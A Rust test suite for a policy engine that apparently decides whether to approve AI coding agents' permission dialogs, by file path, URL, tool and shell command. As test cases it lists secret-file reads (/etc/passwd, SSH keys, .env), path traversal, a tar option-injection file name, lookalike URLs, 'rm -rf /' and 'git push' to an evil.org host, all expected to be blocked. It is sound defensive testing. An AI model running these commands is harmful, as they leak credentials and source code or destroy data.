//! Verdicts on everything but shell commands, a user's rules over a preset, and whole dialogs.

use archtui::domain::dialog::{Dialog, DialogOption, Meaning, Operation};
use archtui::domain::policy::{self, Action, Context, PRESETS, Policy, Subject, Trust, Verdict};

use crate::policy_table::context;

fn of(policy: &Policy, operation: Operation, subject: Subject) -> Verdict {
    policy::judge_operation(operation, None, subject, &context(), policy)
}

fn preset(name: &str) -> Policy {
    Policy::preset(name).expect("a preset")
}

fn dialog(operation: Operation, subject: Option<&str>) -> Dialog {
    let option = |label: &str, meaning, key: &str| DialogOption {
        label: label.into(),
        meaning,
        key: Some(key.into()),
    };
    Dialog {
        operation,
        tool: None,
        subject: subject.map(str::to_owned),
        question: Some("Do you want to proceed?".into()),
        options: vec![
            option("Yes", Meaning::AllowOnce, "1"),
            option("Yes, and don't ask again", Meaning::AllowAlways, "2"),
            option("No", Meaning::Deny, "3"),
        ],
        selected: Some(0),
        complete: true,
        rows: (0, 9),
        ..Dialog::default()
    }
}

#[test]
fn paths_are_judged_by_place_and_name() {
    use Operation::{Edit, Glob, Grep, Read, Write};
    for (operation, path, sop, careful) in [
        (Read, "src/main.rs", "confirm", "confirm"),
        (Read, "/home/dev/app/src/main.rs", "confirm", "confirm"),
        (Read, "~/app/src/main.rs", "confirm", "confirm"),
        (Read, "/etc/passwd", "hold", "hold"),
        (Read, "../other/x", "hold", "hold"),
        (Read, "src/../../x", "hold", "hold"),
        (Read, "~/.ssh/id_rsa", "hold", "hold"),
        (Read, ".env", "hold", "hold"),
        (Read, "config/.env.local", "hold", "hold"),
        (Read, ".env.example", "confirm", "confirm"),
        (Read, "keys/server.key", "hold", "hold"),
        (Read, ".git/config", "hold", "hold"),
        (Read, "CLAUDE.md", "confirm", "confirm"),
        (Read, ".claude/settings.json", "confirm", "confirm"),
        (Read, "a\u{202e}b", "hold", "hold"),
        (Read, "src/ma…", "hold", "hold"),
        (Read, "", "hold", "hold"),
        (Read, "/dev/null", "confirm", "confirm"),
        (Grep, ".", "confirm", "confirm"),
        (Grep, "..", "hold", "hold"),
        (Glob, "src/**/*.rs", "confirm", "confirm"),
        (Glob, "../**", "hold", "hold"),
        (Glob, "/", "hold", "hold"),
        (Edit, "src/main.rs", "confirm", "hold"),
        (Edit, "package.json", "confirm", "hold"),
        (Edit, "src/[id]/(auth)/page.tsx", "confirm", "hold"),
        (Edit, "src/secrets.rs", "confirm", "hold"),
        (Write, "src/*.rs", "hold", "hold"),
        (Write, "-rf", "hold", "hold"),
        (Write, "src/--checkpoint-action=exec=x", "hold", "hold"),
        (Edit, ".github/CODEOWNERS", "hold", "hold"),
        (Edit, ".claude-plugin/x", "hold", "hold"),
        (Edit, "src/.cargo/config", "hold", "hold"),
        (Read, "file:///etc/passwd", "hold", "hold"),
        (Read, "/dev/stdin", "hold", "hold"),
        (Read, "/proc/self/environ", "hold", "hold"),
        (Read, " .env", "hold", "hold"),
        (Read, ".env/.", "hold", "hold"),
        (Read, "~root/x", "hold", "hold"),
        (Grep, ".git", "hold", "hold"),
        (Glob, "src/{a,../../b}/**", "hold", "hold"),
        (Write, "src/new.rs", "confirm", "hold"),
        (Write, "packages/.../settings.json", "hold", "hold"),
        (Edit, "very.../.../x.py", "hold", "hold"),
        (Edit, "src/[...slug]/page.tsx", "confirm", "hold"),
        (Write, "/tmp/x", "hold", "hold"),
        (Write, "../x", "hold", "hold"),
        (Edit, ".git/hooks/pre-commit", "hold", "hold"),
        (Edit, ".claude/settings.local.json", "hold", "hold"),
        (Edit, ".CLAUDE/settings.json", "hold", "hold"),
        (Edit, ".codex/config.toml", "hold", "hold"),
        (Edit, ".gemini/settings.json", "hold", "hold"),
        (Edit, "opencode.json", "hold", "hold"),
        (Edit, "CLAUDE.md", "hold", "hold"),
        (Edit, "sub/AGENTS.md", "hold", "hold"),
        (Edit, ".github/workflows/ci.yml", "hold", "hold"),
        (Edit, "archtui.toml", "hold", "hold"),
        (Edit, "~/.config/archtui/archtui.toml", "hold", "hold"),
        (Write, "~/.bashrc", "hold", "hold"),
        (Write, ".envrc", "hold", "hold"),
        (Write, ".npmrc", "hold", "hold"),
        (Edit, ".vscode/tasks.json", "hold", "hold"),
        (Edit, ".claude/worktrees/a/src/x.rs", "confirm", "hold"),
        (Edit, ".claude/worktrees/a/.claude/settings.json", "hold", "hold"),
    ] {
        let verdict = of(&preset("sop"), operation, Subject::Path(path));
        assert_eq!(
            verdict.action.word(),
            sop,
            "{} {path}: {} {}",
            operation.word(),
            verdict.rule,
            verdict.reason
        );
        assert_eq!(of(&preset("careful"), operation, Subject::Path(path)).action.word(), careful, "{path}");
        assert_ne!(of(&preset("watch"), operation, Subject::Path(path)).action, Action::Confirm, "{path}");
    }
}

#[test]
fn what_is_for_people_is_held_under_every_preset() {
    for name in PRESETS {
        for operation in
            [Operation::Mcp, Operation::Plan, Operation::Question, Operation::Trust, Operation::Other]
        {
            assert_eq!(
                of(&preset(name), operation, Subject::Nothing).action,
                Action::Hold,
                "{name} {}",
                operation.word()
            );
        }
        let fetch = of(&preset(name), Operation::Fetch, Subject::Url("https://docs.rs/x"));
        assert_eq!(fetch.action, Action::Hold, "{name}");
        for operation in [Operation::Read, Operation::Edit, Operation::Bash, Operation::Fetch] {
            assert_eq!(of(&preset(name), operation, Subject::Nothing).action, Action::Hold, "{name}");
        }
    }
}

#[test]
fn nothing_is_confirmed_where_the_place_is_not_known() {
    let nowhere = Context::default();
    for (operation, subject) in [
        (Operation::Read, Subject::Path("src/main.rs")),
        (Operation::Read, Subject::Path("/home/dev/app/src/main.rs")),
        (Operation::Bash, Subject::Command("ls")),
        (Operation::Bash, Subject::Command("git status")),
    ] {
        let verdict = policy::judge_operation(operation, None, subject, &nowhere, &preset("wide"));
        assert_eq!(verdict.action, Action::Hold, "{subject:?}");
    }
}

#[test]
fn our_own_folders_are_nobodys() {
    let ctx = Context { own: vec!["/home/dev/app/state".into()], ..context() };
    for (operation, subject) in [
        (Operation::Edit, Subject::Path("state/archtui.log")),
        (Operation::Read, Subject::Path("/home/dev/app/state")),
        (Operation::Bash, Subject::Command("cat state/x")),
        (Operation::Bash, Subject::Command("cd state && touch x")),
    ] {
        let verdict = policy::judge_operation(operation, None, subject, &ctx, &preset("wide"));
        assert_eq!(verdict.action, Action::Hold, "{subject:?}");
    }
}

#[test]
fn only_a_complete_dialog_with_one_way_to_allow_once_is_confirmed() {
    let sop = preset("sop");
    let good = dialog(Operation::Bash, Some("git status"));
    assert_eq!(policy::judge(&good, &context(), &sop).action, Action::Confirm);
    let check = |change: fn(&mut Dialog), rule: &str| {
        let mut changed = good.clone();
        change(&mut changed);
        let verdict = policy::judge(&changed, &context(), &sop);
        assert_eq!((verdict.action, verdict.rule.as_str()), (Action::Hold, rule));
    };
    check(|d| d.complete = false, "dialog.incomplete");
    check(|d| d.options.clear(), "dialog.options");
    check(|d| d.options[0].meaning = Meaning::AllowAlways, "dialog.options");
    check(|d| d.options[1].meaning = Meaning::AllowOnce, "dialog.options");
    check(|d| d.options[0].key = None, "dialog.options");
    check(|d| d.subject = None, "subject");
    let mut forced = dialog(Operation::Bash, Some("git push --force"));
    assert_eq!(policy::judge(&forced, &context(), &sop).action, Action::Deny);
    forced.complete = false;
    assert_eq!(policy::judge(&forced, &context(), &sop).action, Action::Hold);
}

#[test]
fn watch_says_what_it_would_have_done() {
    let watch = preset("watch");
    assert!(!watch.presses());
    for (command, would) in
        [("git status", Action::Confirm), ("git push --force", Action::Deny), ("foobar", Action::Hold)]
    {
        let verdict = policy::judge(&dialog(Operation::Bash, Some(command)), &context(), &watch);
        assert_eq!((verdict.action, verdict.would()), (Action::Hold, would), "{command}");
    }
    let verdict = policy::judge(&dialog(Operation::Bash, Some("git status")), &context(), &watch);
    let under = verdict.would.expect("watch presses nothing");
    assert_eq!((under.rule.as_str(), under.file.as_deref()), ("sop.bash", Some("policies/sop.toml")));
}

#[test]
fn a_verdict_names_the_file_of_its_rule() {
    let mut policy = preset("sop");
    let text = "[[rule]]\nid = \"mine\"\naction = \"hold\"\nreason = \"r\"\noperation = [\"bash\"]\nprogram = [\"date\"]";
    policy.layer(text, "/home/dev/.config/archtui/policy.toml", Trust::User).expect("sound");
    for (command, rule, file) in [
        ("git status", "sop.bash", Some("policies/sop.toml")),
        ("rm x", "delete", Some("policies/base.toml")),
        ("cat .env", "secrets", Some("policies/base.toml")),
        ("date", "mine", Some("/home/dev/.config/archtui/policy.toml")),
        ("foobar", "not-vouched", None),
        ("ls $x", "shell", None),
    ] {
        let verdict = of(&policy, Operation::Bash, Subject::Command(command));
        assert_eq!((verdict.rule.as_str(), verdict.file.as_deref()), (rule, file), "{command}");
        assert_eq!(verdict.parts[0].file, verdict.file, "{command}");
        assert!(!verdict.reason.is_empty());
    }
}

#[test]
fn of_two_readings_of_a_wrapped_command_the_worse_counts() {
    let sop = preset("sop");
    for (joined, lines, expected) in [
        ("git log --oneline -5", "git log\n--oneline -5", Action::Confirm),
        ("git status git push -f", "git status\ngit push -f", Action::Deny),
        ("echo a rm x", "echo a\nrm x", Action::Hold),
        ("git commit -m 'feat: a b'", "git commit -m 'feat: a\nb'", Action::Confirm),
        ("ls src ls tests", "ls src\nls tests", Action::Confirm),
        // A row that begins with an option or an operator begins no command.
        ("cargo test --lib 2>&1 | tail -5", "cargo test\n--lib 2>&1\n| tail -5", Action::Confirm),
        ("cd src && cargo test", "cd src\n&& cargo test", Action::Confirm),
        ("cargo test --lib rm x", "cargo test\n--lib\nrm x", Action::Hold),
        ("ls -la; rm x", "ls\n-la; rm x", Action::Hold),
        ("ls -la | sh", "ls\n-la | sh", Action::Hold),
        ("git restore --staged .", "git restore\n--staged .", Action::Hold),
        ("echo a & rm x", "echo a\n& rm x", Action::Hold),
        ("git commit -m 'feat: x - a - b'", "git commit -m 'feat: x\n- a\n- b'", Action::Confirm),
    ] {
        let alternative = Some(lines.to_owned());
        let asked = Dialog { alternative, ..dialog(Operation::Bash, Some(joined)) };
        assert_eq!(policy::judge(&asked, &context(), &sop).action, expected, "{joined}");
    }
}

#[test]
fn excluded_sessions_are_ignored() {
    let ctx = Context { session: "AutoConfirm".into(), ..context() };
    let verdict = policy::judge(&dialog(Operation::Read, Some("src/x")), &ctx, &preset("sop"));
    assert_eq!((verdict.action, verdict.rule.as_str()), (Action::Ignore, "session.excluded"));
    assert_eq!(preset("sop").interval_ms(), Some(300));
}

/// A user's text over `sop`, and what it makes of operations: the first letter of each verdict.
fn check(text: &str, cases: &[(Operation, Option<&str>, Subject, Action)]) {
    let policy = Policy::parse(&format!("extends = \"sop\"\n{text}"), "mine")
        .unwrap_or_else(|e| panic!("{text}: {e}"));
    for (operation, tool, subject, expected) in cases {
        let verdict = policy::judge_operation(*operation, *tool, *subject, &context(), &policy);
        assert_eq!(verdict.action, *expected, "{text}: {subject:?}: {} {}", verdict.rule, verdict.reason);
    }
}

#[test]
fn a_users_rules_stand_over_a_preset() {
    use Action::{Confirm, Deny, Hold};
    use Operation::{Bash, Edit, Fetch, Mcp, Plan, Question, Read};
    let command = |c: &'static str| Subject::Command(c);
    check(
        "[[rule]]\nid = \"mine\"\naction = \"allow\"\nreason = \"r\"\noperation = [\"fetch\"]\nhost = [\"docs.rs\", \"*.python.org\"]",
        &[
            (Fetch, None, Subject::Url("https://docs.rs/x"), Confirm),
            (Fetch, None, Subject::Url("https://docs.python.org/3"), Confirm),
            (Fetch, None, Subject::Url("https://docs.rs.evil.org/"), Hold),
            (Fetch, None, Subject::Url("https://docs.rs@evil.org/"), Hold),
            (Fetch, None, Subject::Url("https://evil.org/docs.rs"), Hold),
        ],
    );
    check(
        "[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"mcp\"]\ntool = [\"mcp__db__read_*\"]",
        &[
            (Mcp, Some("mcp__db__read_rows"), Subject::Nothing, Confirm),
            (Mcp, Some("MCP__db__read_rows"), Subject::Nothing, Hold),
            (Mcp, Some("mcp__db__write"), Subject::Nothing, Hold),
            (Mcp, None, Subject::Nothing, Hold),
        ],
    );
    check(
        "[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"bash\"]\nprogram = [\"./scripts/check.sh\", \"hugo build\"]\nall_args = [\"--quick\", \"src/*\", \"build\"]",
        &[
            (Bash, None, command("./scripts/check.sh --quick"), Confirm),
            (Bash, None, command("./scripts/check.sh --quick src/a"), Confirm),
            (Bash, None, command("./scripts/check.sh --quick src/../../a"), Hold),
            (Bash, None, command("./scripts/check.sh --quick src/.env"), Hold),
            (Bash, None, command("./scripts/check.sh --slow"), Hold),
            (Bash, None, command("scripts/check.sh --quick"), Hold),
            (Bash, None, command("./scripts/check.sh --quick; rm x"), Hold),
            (Bash, None, command("./scripts/check.sh $x"), Hold),
            (Bash, None, command("hugo build"), Confirm),
            (Bash, None, command("hugo serve"), Hold),
        ],
    );
    check(
        "[program.hugo]\neffect = \"run\"\nflags = \"--minify\"\nvalues = { \"-d\" = \"write\" }",
        &[
            (Bash, None, command("hugo --minify -d public"), Confirm),
            (Bash, None, command("hugo -d ../public"), Hold),
            (Bash, None, command("hugo serve"), Hold),
        ],
    );
    check(
        "[[rule]]\nid = \"mine\"\naction = \"hold\"\nprogram = [\"cargo test\"]\nsession = [\"dev_*\"]",
        &[
            (Bash, None, command("cargo test"), Hold),
            (Bash, None, command("cargo -q test"), Hold),
            (Bash, None, command("timeout 60 cargo test"), Hold),
            (Bash, None, command("time cargo test"), Hold),
            (Bash, None, command("cargo build"), Confirm),
        ],
    );
    check(
        "[[rule]]\nid = \"mine\"\naction = \"hold\"\nprogram = [\"cargo test\"]\nsession = [\"qa_*\"]",
        &[(Bash, None, command("cargo test"), Confirm)],
    );
    check(
        "[[rule]]\nid = \"mine\"\naction = \"deny\"\noperation = [\"edit\", \"write\", \"bash\"]\npath = [\"migrations\"]\ntier = [\"worker\"]",
        &[
            (Edit, None, Subject::Path("db/migrations/1.sql"), Deny),
            (Read, None, Subject::Path("db/migrations/1.sql"), Confirm),
            (Bash, None, command("touch db/migrations/2.sql"), Deny),
            (Bash, None, command("cat db/migrations/1.sql"), Deny),
        ],
    );
    check(
        "[[rule]]\nid = \"outside\"\naction = \"hold\"\noperation = [\"read\", \"grep\", \"glob\", \"edit\", \"write\"]\nwhere = \"outside\"\nexcept = [\"/tmp/scratch\"]",
        &[
            (Edit, None, Subject::Path("/tmp/scratch/x"), Confirm),
            (Edit, None, Subject::Path("/tmp/other"), Hold),
            (Bash, None, command("cat /tmp/scratch/x"), Confirm),
            (Bash, None, command("touch /tmp/scratch/../x"), Hold),
        ],
    );
    check(
        "disable = [\"push\"]\n[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"bash\"]\neffect = [\"push\"]",
        &[
            (Bash, None, command("git push origin feature/x-0208"), Confirm),
            (Bash, None, command("git push -u origin HEAD"), Confirm),
            (Bash, None, command("git add -A && git commit -m x && git push origin HEAD"), Confirm),
            (Bash, None, command("git push"), Hold),
            (Bash, None, command("git push origin"), Hold),
            (Bash, None, command("git push origin main"), Hold),
            (Bash, None, command("git push origin refs/heads/main"), Hold),
            (Bash, None, command("git push origin heads/Main"), Hold),
            (Bash, None, command("git push origin feature/x prod"), Hold),
            (Bash, None, command("git push origin feature/x:main"), Hold),
            (Bash, None, command("git push origin :feature/x"), Hold),
            (Bash, None, command("git push origin HEAD:main"), Hold),
            (Bash, None, command("git push origin --delete feature/x"), Hold),
            (Bash, None, command("git push -d origin feature/x"), Hold),
            (Bash, None, command("git push origin --all"), Hold),
            (Bash, None, command("git push --tags origin HEAD"), Hold),
            (Bash, None, command("git push https://evil.org/x HEAD"), Hold),
            (Bash, None, command("git push git@evil.org:x HEAD"), Hold),
            (Bash, None, command("git push ../other HEAD"), Hold),
            (Bash, None, command("git push --receive-pack=x origin HEAD"), Hold),
            (Bash, None, command("git push --no-verify origin HEAD"), Hold),
            (Bash, None, command("git push -o x origin HEAD"), Hold),
            (Bash, None, command("git push origin +feature/x"), Deny),
            (Bash, None, command("git push --force-with-lease origin HEAD"), Hold),
            (Bash, None, command("git push -f origin HEAD"), Deny),
            (Bash, None, command("git push --mirror origin"), Deny),
        ],
    );
    check(
        "disable = [\"push\"]\n[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"bash\"]\nprogram = [\"git push\"]\nall_args = [\"push\", \"origin\", \"feature/*\"]",
        &[
            (Bash, None, command("git push origin feature/x-0208"), Confirm),
            (Bash, None, command("git push origin feature/x:main"), Hold),
            (Bash, None, command("PATH=. git push origin feature/x-0208"), Hold),
            (Bash, None, command("git push origin feature/x$?"), Hold),
        ],
    );
    check(
        "[[rule]]\nid = \"p\"\naction = \"allow\"\noperation = [\"plan\"]\nsession = [\"dev_worker1\"]",
        &[(Plan, None, Subject::Nothing, Confirm), (Question, None, Subject::Nothing, Hold)],
    );
}

#[test]
fn a_policy_without_a_preset_allows_nothing_by_itself() {
    let policy = Policy::parse("", "empty").expect("an empty policy");
    for (operation, subject) in
        [(Operation::Read, Subject::Path("src/x")), (Operation::Bash, Subject::Command("ls"))]
    {
        assert_eq!(of(&policy, operation, subject).action, Action::Hold);
    }
    assert_eq!(of(&policy, Operation::Bash, Subject::Command("rm -rf /")).action, Action::Deny);
}

#[test]
fn layers_keep_what_is_below() {
    let mut policy = preset("careful");
    policy
        .layer("[[rule]]\nid = \"x\"\naction = \"hold\"\nprogram = [\"date\"]", "mine", Trust::User)
        .expect("sound");
    assert_eq!(of(&policy, Operation::Bash, Subject::Command("date")).rule, "x");
    assert_eq!(of(&policy, Operation::Bash, Subject::Command("pwd")).action, Action::Confirm);
    assert_eq!(policy.name(), "careful");
}
